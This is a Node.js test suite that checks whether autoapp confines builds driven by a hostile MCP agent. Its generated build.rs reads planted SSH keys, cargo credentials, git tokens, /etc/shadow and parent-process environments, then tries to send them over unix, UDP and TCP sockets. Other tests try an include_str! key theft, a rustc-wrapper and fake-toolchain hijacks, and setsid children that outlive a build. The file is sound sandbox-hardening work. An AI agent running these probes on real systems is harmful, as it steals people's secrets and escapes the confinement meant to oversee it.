// Builds that hold against a hostile agent (#22). The agent is an MCP client
// nobody here wrote (the official TypeScript SDK) driving `autoapp mcp
// --engineer`, with the person's standing approval on: nothing below depends
// on a person noticing. What the agent writes runs only confined; it sees no
// secret of the person's, reaches nothing, and ends with its build.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { spawnSync } from "node:child_process";
import { mkdtempSync, mkdirSync, writeFileSync, readFileSync, existsSync, readdirSync, symlinkSync, chmodSync } from "node:fs";
import { randomBytes } from "node:crypto";
import { tmpdir, homedir } from "node:os";
import { join } from "node:path";
import net from "node:net";
import dgram from "node:dgram";
import { bin, startLauncher, browser, control } from "./harness.mjs";

const SLOW = { timeout: 600000, resetTimeoutOnProgress: true };
const hex = (n) => randomBytes(n).toString("hex");

// Secrets of the person's, planted where a build script would look.
const planted = {
  env: `planted-env-${hex(12)}`,
  ssh: `planted-ssh-${hex(12)}`,
  cargo: `cio${hex(16)}`, // a crates.io token's shape: cio and 32 letters and digits
  git: `planted-git-${hex(12)}`,
};

// The person's machine, as the launcher sees it: a HOME of the test's own,
// a cargo home whose downloads are the real ones (no network needed) and
// which holds credentials, the real rustup home.
const scratch = mkdtempSync(join(tmpdir(), "autoapp-builds-"));
const home = join(scratch, "home");
const cargoHome = join(scratch, "cargo-home");
const outside = join(scratch, "outside");
for (const d of [join(home, ".ssh"), cargoHome, outside]) mkdirSync(d, { recursive: true });
writeFileSync(join(home, ".ssh", "id_ed25519"), `${planted.ssh}\n`);
const realCargo = process.env.CARGO_HOME || join(homedir(), ".cargo");
for (const d of ["registry", "git"]) {
  mkdirSync(join(realCargo, d), { recursive: true });
  symlinkSync(join(realCargo, d), join(cargoHome, d));
}
writeFileSync(join(cargoHome, "credentials.toml"), `[registry]\ntoken = "${planted.cargo}"\n`);
writeFileSync(join(cargoHome, "config.toml"), `[net]\nretry = 2\n`);

const env = { ...process.env };
Object.assign(env, {
  RUSTUP_TOOLCHAIN: undefined, // the workspace's toolchain file decides, as on a person's machine
  CARGO_TARGET_DIR: undefined, // the person's builds use the workspace's target folder
  HOME: home,
  CARGO_HOME: cargoHome,
  RUSTUP_HOME: process.env.RUSTUP_HOME || join(homedir(), ".rustup"),
  AUTOAPP_TEST_TOKEN: planted.env,
  GITHUB_TOKEN: `ghp_${hex(18)}`,
  AUTOAPP_LOG: "info",
});

function run(root, ...args) {
  return spawnSync(bin, ["--root", root, ...args], { env, encoding: "utf8", timeout: 900000 });
}

function ok(root, ...args) {
  const r = run(root, ...args);
  assert.equal(r.status, 0, `autoapp ${args.join(" ")}: ${r.stderr}`);
  return r.stdout;
}

/// A root with the starter template created as `web` (built and activated
/// unless `bare`), the standing approval on, and the launcher running.
async function setUp(name, config = "", bare = false) {
  const root = join(scratch, name);
  mkdirSync(root);
  writeFileSync(join(root, "config.toml"), `opener = "none"\napproval_window_secs = 300\n${config}`);
  ok(root, "create", "web");
  const ws = join(root, "apps", "web", "workspace");
  // A remote with a token, as a person's clone may have.
  mkdirSync(join(ws, ".git"));
  writeFileSync(join(ws, ".git", "config"), `[remote "origin"]\n\turl = https://person:${planted.git}@example.com/web.git\n`);
  if (!bare) {
    const built = JSON.parse(ok(root, "build", "web", "--json"));
    ok(root, "activate", "web", built.release);
  }
  ok(root, "standing", "on");
  const launcher = await startLauncher(root, env);
  let stderr = "";
  launcher.child.stderr.on("data", (c) => { stderr += c.toString(); });
  return { root, ws, launcher, log: () => stderr };
}

async function agent(root, name = "hostile-agent") {
  const transport = new StdioClientTransport({ command: bin, args: ["--root", root, "mcp", "--engineer"], env, stderr: "pipe" });
  const client = new Client({ name, version: "1.0.0" });
  await client.connect(transport);
  return client;
}

/// Calls a tool; returns its text and the progress the launcher sent.
async function tool(client, name, args) {
  const progress = [];
  const r = await client.callTool({ name, arguments: args }, undefined, { ...SLOW, onprogress: (p) => progress.push(p.message ?? "") });
  return { error: !!r.isError, text: r.content.map((c) => c.text).join("\n"), structured: r.structuredContent, progress };
}

/// Every way a planted secret could be written: plain, one letter at a time
/// with spaces, reversed.
function forms(secret) {
  return [secret, secret.split("").join(" "), secret.split("").reverse().join("")];
}

function assertNoSecret(where, text) {
  for (const s of Object.values(planted)) {
    for (const f of forms(s)) assert.ok(!text.includes(f), `${where} holds a planted secret (${f.slice(0, 12)}…)`);
  }
}

/// Processes whose command line holds `mark`.
function processesWith(mark) {
  const found = [];
  for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
    try {
      const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8").replaceAll("\0", " ");
      if (cmd.includes(mark)) found.push(`${pid}: ${cmd}`);
    } catch { /* gone */ }
  }
  return found;
}

async function until(check, ms, what) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (await check()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.fail(`not within ${ms} ms: ${what}`);
}

let main, engineer;
const listeners = { unix: 0, abstract: 0, udp: 0, tcp: 0 };
let unixServer, abstractServer, udpServer, tcpServer;
const unixPath = join(scratch, "agent.sock");
const abstractName = `autoapp-test-${hex(6)}`;

before(async () => {
  const listening = (server, ...args) => new Promise((r) => server.listen(...args, r));
  unixServer = net.createServer((s) => { listeners.unix++; s.destroy(); });
  abstractServer = net.createServer((s) => { listeners.abstract++; s.destroy(); });
  tcpServer = net.createServer((s) => { listeners.tcp++; s.destroy(); });
  await listening(unixServer, unixPath);
  await listening(abstractServer, `\0${abstractName}`);
  await listening(tcpServer, 0, "127.0.0.1");
  udpServer = dgram.createSocket("udp4").on("message", () => { listeners.udp++; });
  await new Promise((r) => udpServer.bind(0, "127.0.0.1", r));
  env.SSH_AUTH_SOCK = unixPath;
  main = await setUp("main");
  engineer = await agent(main.root);
});

after(async () => {
  await engineer?.close();
  await main?.launcher.stop();
  for (const s of [unixServer, abstractServer, tcpServer]) s?.close();
  udpServer?.close();
});

/// A build script that tells everything it can find of the person's, and
/// tries every way out; each probe says what happened (`PROBE …`).
function hostileBuildRs(root) {
  // Each probe is named by a short label: the sanitiser may redact a long
  // path with letters of both cases and digits (a temporary folder's name).
  const reads = [
    ["ssh-key", join(home, ".ssh", "id_ed25519")],
    ["cargo-credentials", join(cargoHome, "credentials.toml")],
    ["cargo-config", join(cargoHome, "config.toml")],
    ["git-config", join(root, "apps", "web", "workspace", ".git", "config")],
    ["launcher-json", join(root, "launcher.json")],
    ["shadow", "/etc/shadow"],
  ];
  return `use std::io::Write as _;
use std::os::linux::net::SocketAddrExt as _;

unsafe extern "C" {
    fn socket(domain: i32, kind: i32, protocol: i32) -> i32;
}

fn show(label: &str, text: &str) {
    let spaced: String = text.chars().flat_map(|c| [c, ' ']).collect();
    let reversed: String = text.chars().rev().collect();
    for form in [text.to_string(), spaced, reversed] {
        for line in form.lines() {
            println!("cargo:warning=PROBE {label}: {line}");
        }
    }
}

fn main() {
    let env: String = std::env::vars().map(|(k, v)| format!("{k}={v}\\n")).collect();
    show("env", &env);
    for (label, path) in [${reads.map(([l, p]) => `(${JSON.stringify(l)}, ${JSON.stringify(p)})`).join(", ")}] {
        match std::fs::read_to_string(path) {
            Ok(text) => show(label, &text),
            Err(e) => println!("cargo:warning=PROBE read {label}: {e}"),
        }
    }
    // The environment of every process above this one.
    let mut pid = std::process::id();
    for _ in 0..10 {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let parent: u32 = stat.rsplit(')').next().and_then(|r| r.split_whitespace().nth(1)).and_then(|p| p.parse().ok()).unwrap_or(0);
        if parent <= 1 {
            break;
        }
        match std::fs::read(format!("/proc/{parent}/environ")) {
            Ok(bytes) => show("environ", &String::from_utf8_lossy(&bytes).replace('\\0', "\\n")),
            Err(e) => println!("cargo:warning=PROBE environ of {parent}: {e}"),
        }
        pid = parent;
    }
    match std::os::unix::net::UnixStream::connect(${JSON.stringify(unixPath)}) {
        Ok(mut s) => { let _ = s.write_all(b"leak"); println!("cargo:warning=PROBE unix: connected"); }
        Err(e) => println!("cargo:warning=PROBE unix: {e}"),
    }
    let named = std::os::unix::net::SocketAddr::from_abstract_name(${JSON.stringify(abstractName)}).unwrap();
    match std::os::unix::net::UnixStream::connect_addr(&named) {
        Ok(mut s) => { let _ = s.write_all(b"leak"); println!("cargo:warning=PROBE abstract: connected"); }
        Err(e) => println!("cargo:warning=PROBE abstract: {e}"),
    }
    match std::net::UdpSocket::bind("127.0.0.1:0").and_then(|u| u.send_to(b"leak", ("127.0.0.1", ${udpServer.address().port}))) {
        Ok(_) => println!("cargo:warning=PROBE udp: sent"),
        Err(e) => println!("cargo:warning=PROBE udp: {e}"),
    }
    match std::net::TcpStream::connect(("127.0.0.1", ${tcpServer.address().port})) {
        Ok(_) => println!("cargo:warning=PROBE tcp: connected"),
        Err(e) => println!("cargo:warning=PROBE tcp: {e}"),
    }
    // AF_NETLINK, SOCK_RAW, NETLINK_ROUTE
    let fd = unsafe { socket(16, 3, 0) };
    println!("cargo:warning=PROBE netlink: {}", if fd >= 0 { "opened".to_string() } else { std::io::Error::last_os_error().to_string() });
}
`;
}

test("a build script the agent wrote sees no secret of the person's, reaches nothing, and what it prints carries none", async () => {
  const wrote = await tool(engineer, "source_write", { app: "web", path: "build.rs", content: hostileBuildRs(main.root) });
  assert.equal(wrote.error, false, wrote.text);
  const built = await tool(engineer, "candidate_build", { app: "web" });
  const said = `${built.text}\n${built.progress.join("\n")}`;
  // The probes ran, and each was refused.
  for (const probe of ["PROBE env", "PROBE read", "PROBE unix:", "PROBE abstract:", "PROBE udp:", "PROBE tcp:", "PROBE netlink:"]) {
    assert.ok(said.includes(probe), `the build script's ${probe} ran: ${said.slice(0, 3000)}`);
  }
  for (const escaped of ["unix: connected", "abstract: connected", "udp: sent", "tcp: connected", "netlink: opened"]) {
    assert.ok(!said.includes(escaped), `${escaped}: ${said}`);
  }
  for (const label of ["ssh-key", "cargo-credentials", "cargo-config", "git-config", "launcher-json", "shadow"]) {
    assert.match(said, new RegExp(`PROBE read ${label}: Permission denied`), `${label} was not readable`);
  }
  assert.ok(!/PROBE environ: /.test(said), "no ancestor's environment was readable");
  assert.ok(!said.includes("SSH_AUTH_SOCK") && !said.includes("AUTOAPP_TEST_TOKEN") && !said.includes("GITHUB_TOKEN"), said);
  assert.deepEqual(listeners, { unix: 0, abstract: 0, udp: 0, tcp: 0 }, "every listener received nothing");
  // None of the planted values anywhere: the answer, the progress, the log,
  // the record.
  assertNoSecret("the build's answer", built.text);
  assertNoSecret("the build's progress", built.progress.join("\n"));
  const logs = await tool(engineer, "logs_read", { app: "web" });
  assertNoSecret("logs_read", logs.text);
  const record = await tool(engineer, "runs_read", { app: "web" });
  assertNoSecret("runs_read", record.text);
  assertNoSecret("autoapp runs", ok(main.root, "runs", "web", "--json"));
  assertNoSecret("the launcher's log", main.log());
  assert.equal(built.error, false, built.text);
});

test("a route that include_str!s a key of the person's does not build, and no preview call returns the key", async () => {
  const lib = join(main.ws, "src", "lib.rs");
  const before = readFileSync(lib, "utf8");
  const keyPath = join(home, ".ssh", "id_ed25519");
  const arm = `"entries.list" => json!({ "entries": entries(input["limit"].as_i64().unwrap_or(20))? }),`;
  assert.ok(before.includes(arm));
  const stolen = `"entries.list" => json!({ "entries": entries(input["limit"].as_i64().unwrap_or(20))?, "key": include_str!(${JSON.stringify(keyPath)}) }),`;
  const edited = await tool(engineer, "source_edit", { app: "web", path: "src/lib.rs", old: arm, new: stolen });
  assert.equal(edited.error, false, edited.text);
  try {
    await stealing(keyPath);
  } finally {
    writeFileSync(lib, before);
  }
});

async function stealing(keyPath) {
  const candidates = ok(main.root, "candidates", "web", "--json");
  // The person builds it: the compiler cannot read the key.
  const person = run(main.root, "build", "web");
  assert.notEqual(person.status, 0, "the person's build of it fails");
  assert.match(person.stderr, /id_ed25519|couldn't read|Permission denied/);
  assertNoSecret("the person's build", person.stderr + person.stdout);
  // So does the engineer's.
  const theirs = await tool(engineer, "candidate_build", { app: "web" });
  assert.equal(theirs.error, true, theirs.text);
  assertNoSecret("the engineer's build", theirs.text + theirs.progress.join("\n"));
  assert.equal(ok(main.root, "candidates", "web", "--json"), candidates, "no candidate holds the key");
  // Whatever preview the agent starts, no call returns the key.
  const started = await tool(engineer, "candidate_preview", { app: "web" });
  assert.equal(started.error, false, started.text);
  const r = await tool(engineer, "preview_call", { app: "web", route: "entries.list", input: {} });
  assert.equal(r.error, false, r.text);
  assertNoSecret("preview_call entries.list", r.text);
  await tool(engineer, "preview_stop", { app: "web" });
}

test("cargo's and rustup's configuration: the agent may not write it, its builds refuse the person's, and the person's own builds run it only confined", async () => {
  for (const path of [".cargo/config.toml", "rust-toolchain.toml", "rust-toolchain"]) {
    const r = await tool(engineer, "source_write", { app: "web", path, content: "[build]\nrustc-wrapper = \"/bin/sh\"\n" });
    assert.equal(r.error, true, `${path}: ${r.text}`);
    assert.match(r.text, /never reads or writes|never changes it/);
  }
  assert.ok(!existsSync(join(main.ws, ".cargo", "config.toml")));
  // The person puts a wrapper in the workspace's cargo configuration.
  const marker = join(outside, "wrapper-ran");
  const wrapper = join(main.ws, "wrap.sh");
  writeFileSync(wrapper, `#!/bin/sh\necho ran > ${marker}\nexec "$@"\n`);
  chmodSync(wrapper, 0o755);
  mkdirSync(join(main.ws, ".cargo"), { recursive: true });
  writeFileSync(join(main.ws, ".cargo", "config.toml"), `[build]\nrustc-wrapper = ${JSON.stringify(wrapper)}\n`);
  const refused = await tool(engineer, "candidate_build", { app: "web" });
  assert.equal(refused.error, true);
  assert.match(refused.text, /`build\.rustc-wrapper` names a program/);
  assert.ok(!existsSync(marker), "the engineer's build ran nothing");
  // The person's own build runs it, confined: it cannot write outside.
  run(main.root, "build", "web");
  assert.ok(!existsSync(marker), "the wrapper ran only confined, in the fetch and in the build");
  spawnSync("rm", ["-rf", join(main.ws, ".cargo"), wrapper]);

  // A build script fills a folder with a toolchain of its own; the person's
  // toolchain file then names it.
  const tcMarker = join(outside, "toolchain-ran");
  const fake = `#!/bin/sh\necho ran > ${tcMarker}\nexit 1\n`;
  const buildRs = `fn main() {
    let dir = std::path::Path::new(&std::env::var("CARGO_TARGET_DIR").unwrap_or_else(|_| "target".into())).join("evil");
    std::fs::create_dir_all(dir.join("bin")).unwrap();
    std::fs::create_dir_all(dir.join("lib/rustlib/wasm32-wasip2/lib")).unwrap();
    for p in ["cargo", "rustc"] {
        let f = dir.join("bin").join(p);
        std::fs::write(&f, ${JSON.stringify(fake)}).unwrap();
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}
`;
  assert.equal((await tool(engineer, "source_write", { app: "web", path: "build.rs", content: buildRs })).error, false);
  const filled = await tool(engineer, "candidate_build", { app: "web" });
  assert.equal(filled.error, false, filled.text);
  assert.ok(existsSync(join(main.ws, "target", "evil", "bin", "cargo")), "the build script filled the folder");
  writeFileSync(join(main.ws, "rust-toolchain.toml"), `[toolchain]\npath = "target/evil"\n`);
  const theirs = await tool(engineer, "candidate_build", { app: "web" });
  assert.equal(theirs.error, true);
  assert.match(theirs.text, /toolchain\.path/);
  const person = run(main.root, "build", "web");
  assert.notEqual(person.status, 0, "the fake cargo fails the build");
  assert.ok(!existsSync(tcMarker), `the toolchain's programs ran only confined: ${person.stderr}`);
  writeFileSync(join(main.ws, "rust-toolchain.toml"), `[toolchain]\nchannel = "1.95.0"\ntargets = ["wasm32-wasip2"]\n`);
  await tool(engineer, "source_delete", { app: "web", path: "build.rs" });
});

test("a build that never ends is stopped at its deadline with every process it started, setsid children too", async () => {
  const slow = await setUp("slow", "build_deadline_secs = 8\n", true);
  const client = await agent(slow.root, "slow-agent");
  try {
    const mark = `3${Math.floor(Math.random() * 899 + 100)}.${Math.floor(Math.random() * 9000 + 1000)}`;
    await lean(client, mark);
    const started = Date.now();
    const r = await tool(client, "candidate_build", { app: "web" });
    assert.equal(r.error, true);
    assert.match(r.text, /ran past its deadline/);
    assert.ok(Date.now() - started < 60000, "stopped at the deadline");
    assert.ok(existsSync(join(slow.ws, "target", "started")), "the build script ran and started its children");
    await until(() => processesWith(mark).length === 0, 5000, `no process left: ${processesWith(mark)}`);
  } finally {
    await client.close();
    await slow.launcher.stop();
  }
});

/// Makes the app a crate with no dependency whose build script starts a
/// child in a session of its own and a double-forked one (both sleeping
/// `mark` seconds), marks that it did, and sleeps.
async function lean(client, mark) {
  const write = async (path, content) => assert.equal((await tool(client, "source_write", { app: "web", path, content })).error, false);
  await write("Cargo.toml", `[package]\nname = "web"\nversion = "0.1.0"\nedition = "2024"\n\n[lib]\ncrate-type = ["cdylib"]\n\n[workspace]\n`);
  await write("src/lib.rs", "");
  await write("build.rs", `fn main() {
    std::process::Command::new("setsid").args(["sleep", "${mark}"]).spawn().unwrap();
    std::process::Command::new("sh").args(["-c", "(sleep ${mark} &) ; true"]).status().unwrap();
    let target = std::path::PathBuf::from(std::env::var("CARGO_TARGET_DIR").unwrap());
    std::fs::write(target.join("started"), "yes").unwrap();
    std::thread::sleep(std::time::Duration::from_secs(600));
}
`);
}

test("an agent that goes away mid-build leaves nothing running, frees the app at once, and its queued change is not made", async () => {
  const gone = await setUp("gone", "", true);
  const client = await agent(gone.root, "leaving-agent");
  const mark = `4${Math.floor(Math.random() * 899 + 100)}.${Math.floor(Math.random() * 9000 + 1000)}`;
  await lean(client, mark);
  const building = client.callTool({ name: "candidate_build", arguments: { app: "web" } }, undefined, SLOW).catch(() => null);
  await until(() => existsSync(join(gone.ws, "target", "started")), 120000, "the build script started");
  assert.ok(processesWith(mark).length >= 2, "its children run");
  // A change queued behind the build, then the agent goes away.
  const queued = client.callTool({ name: "source_write", arguments: { app: "web", path: "queued.txt", content: "late" } }, undefined, SLOW).catch(() => null);
  await new Promise((r) => setTimeout(r, 500));
  await client.close();
  await Promise.all([building, queued]);
  await until(() => processesWith(mark).length === 0, 8000, `no process of the build left: ${processesWith(mark)}`);
  // The app is free at once for the next agent, and the queued change was not made.
  const next = await agent(gone.root, "next-agent");
  const t0 = Date.now();
  const wrote = await tool(next, "source_write", { app: "web", path: "next.txt", content: "now" });
  assert.equal(wrote.error, false, wrote.text);
  assert.ok(Date.now() - t0 < 10000, "the change lock was free");
  assert.ok(!existsSync(join(gone.ws, "queued.txt")), "the queued change of the agent that went away was not made");
  const rows = JSON.parse(ok(gone.root, "runs", "web", "--json"));
  assert.ok(rows.some((r) => r.route === "candidate_build" && /caller went away/.test(r.reason)), JSON.stringify(rows.slice(-5)));
  // The launcher stopping ends a build too.
  const again = `5${Math.floor(Math.random() * 899 + 100)}.${Math.floor(Math.random() * 9000 + 1000)}`;
  await lean(next, again);
  spawnSync("rm", ["-f", join(gone.ws, "target", "started")]);
  next.callTool({ name: "candidate_build", arguments: { app: "web" } }, undefined, SLOW).catch(() => null);
  await until(() => existsSync(join(gone.ws, "target", "started")), 120000, "the second build script started");
  await gone.launcher.stop();
  await until(() => processesWith(again).length === 0, 8000, `no process left after the launcher stopped: ${processesWith(again)}`);
  await next.close();
});

test("the person sees all of what they approve: a 70 KiB write's last line is on the card", async () => {
  ok(main.root, "standing", "off");
  const chrome = await browser();
  try {
    const { request } = await control(main.root);
    const panelUrl = (await request({ type: "panel" })).url;
    const page = await (await chrome.newContext()).newPage();
    await page.goto(panelUrl);
    await page.locator('section[data-app="web"]').waitFor();
    const lines = Array.from({ length: 1800 }, (_, i) => `line ${String(i).padStart(4, "0")} of a long file the agent writes`);
    const last = `the last line ${hex(8)}`;
    const content = `${lines.join("\n")}\n${last}\n`;
    assert.ok(content.length > 70 * 1024);
    const pending = engineer.callTool({ name: "source_write", arguments: { app: "web", path: "long.txt", content } }, undefined, SLOW);
    const card = page.locator(".question").first();
    await card.waitFor();
    const change = card.locator("pre.change");
    assert.ok((await change.textContent()).includes(`+${last}`), "the card shows the last line");
    const scrolls = await change.evaluate((el) => getComputedStyle(el).overflowY);
    assert.equal(scrolls, "auto", "the card scrolls");
    await card.locator("button.deny").click();
    const r = await pending;
    assert.equal(r.isError, true);
    assert.ok(!existsSync(join(main.ws, "long.txt")));
  } finally {
    await chrome.close();
    ok(main.root, "standing", "on");
  }
});
